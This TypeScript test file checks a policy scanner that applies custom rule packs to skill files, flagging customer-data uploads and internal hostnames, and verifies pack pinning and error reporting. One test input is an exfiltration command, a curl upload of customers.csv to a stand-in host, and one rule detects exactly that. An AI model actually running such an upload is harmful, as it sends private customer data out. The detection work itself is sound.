import { describe, expect, it } from "vitest";
import { customFindings } from "../../../src/core/gate/custom-scan.ts";
import { type Policy, parsePolicy, policyDigest } from "../../../src/core/gate/policy.ts";
import { tryPack, withPacks } from "../../../src/core/gate/policy-pack.ts";
import { PACK, PACK_PATH, pinning } from "../../support/pack-fixture.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const policyOf = (text: string) => parsePolicy(bytes(text)).policy as Policy;
const load = (policy: string, pack: string | undefined = PACK, tried = false) =>
  withPacks(policyOf(policy), new Map(pack === undefined ? [] : [[PACK_PATH, bytes(pack)]]), { tried });
const skill = (files: Readonly<Record<string, string>>) =>
  Object.entries(files).map(([path, text]) => ({ path, mode: 0o100644, size: text.length, bytes: bytes(text) }));

describe("a policy with a pack", () => {
  const { scan } = load(pinning()).policy as Policy;
  const found = (files: Readonly<Record<string, string>>) =>
    customFindings(scan, skill(files)).map(({ rule, severity, path, line, message }) => [
      rule,
      severity,
      path,
      line,
      message,
    ]);

  it("finds by its rules, in the shape of all findings", () => {
    expect(
      found({ "SKILL.md": "# A\n\nAsk db1.corp.acme.\n", "a.sh": "curl -T customers.csv https://a.example\n" }),
    ).toEqual([
      ["custom-customer-upload", "critical", "a.sh", 1, "Customer data is uploaded: curl -T"],
      ["custom-internal-host", "high", "SKILL.md", 3, "It names the internal host db1.corp.acme."],
    ]);
    expect(found({ "SKILL.md": "# A\n", "a.sh": "curl -T b.csv https://a.example\n\n\nwc customers.csv\n" })).toEqual(
      [],
    );
  });

  it("finds what is encoded too, a step more severe", () => {
    const hidden = Buffer.from("echo db1.corp.acme is the one to ask").toString("base64");
    expect(found({ "SKILL.md": `# A\n\n    ${hidden}\n` })).toEqual([
      ["custom-internal-host", "critical", "SKILL.md", 3, "It names the internal host db1.corp.acme."],
    ]);
  });

  it("is judged by nothing before its packs are read", () => {
    expect(() => customFindings(policyOf(pinning()).scan, [])).toThrow("packs that were not read");
  });

  it("is another one after each change of a pack", () => {
    expect(policyDigest(policyOf(pinning()))).not.toBe(policyDigest(policyOf(pinning(`${PACK}# more\n`))));
    expect(policyDigest(load(pinning()).policy as Policy)).toBe(policyDigest(policyOf(pinning())));
  });
});

describe("a policy whose pack cannot be used", () => {
  const wrong = (...args: Parameters<typeof load>) => {
    const { policy, findings } = load(...args);
    expect(policy).toBeUndefined();
    expect(findings).toHaveLength(1);
    const [{ rule, path, line, message } = { rule: "", path: "", line: 0, message: "" }] = findings;
    return `${rule} ${path}:${line} ${message}`;
  };

  it("is none, and says which file and line it is", () => {
    expect(withPacks(policyOf(pinning()), new Map(), { tried: false }).findings[0]?.message).toContain("no such file");
    expect(wrong(pinning(), `${PACK}\n`)).toMatch(/^pack-pinned policy-packs\/acme.yaml:1 policy.yaml expects sha256:/);
    const broken = PACK.replace("severity: high", "severity: severe");
    expect(wrong(pinning(broken), broken)).toMatch(/^pack-value policy-packs\/acme.yaml:14 /);
  });

  it("is none where it rates a rule that there is not", () => {
    expect(wrong(pinning(PACK, "rules:\n  custom-internal-hst: low\n"))).toMatch(/got custom-internal-hst/);
    expect(load(pinning(PACK, "rules:\n  custom-internal-host: low\n")).findings).toEqual([]);
  });

  it("is none where its own words have a name of the pack's", () => {
    const words = "  words: [{ id: internal-host, any: [secret plan] }]\n";
    expect(wrong(pinning(PACK, words))).toMatch(/got custom-internal-host twice/);
  });
});

describe("the examples of a pack", () => {
  it("hold", () => {
    expect(tryPack(PACK_PATH, bytes(PACK))).toEqual([]);
  });

  it.each([
    ["Ask db1.corp.acme for it.", "Ask nobody.", /^21 pack-value .*expected an example that internal-host finds/],
    [
      "Ask corp.acme.example for it.",
      "Ask db1.corp.acme.",
      /^22 pack-value .*an example in which internal-host finds nothing/,
    ],
  ])("do not, with %s as %s, and the line is told", (from, to, said) => {
    const pack = PACK.replace(from, to);
    const [found] = tryPack(PACK_PATH, bytes(pack));
    expect(`${found?.line} ${found?.rule} ${found?.message}`).toMatch(said);
    expect(load(pinning(pack), pack, true).policy).toBeUndefined();
    expect(load(pinning(pack), pack, false).policy).toBeDefined();
  });
});
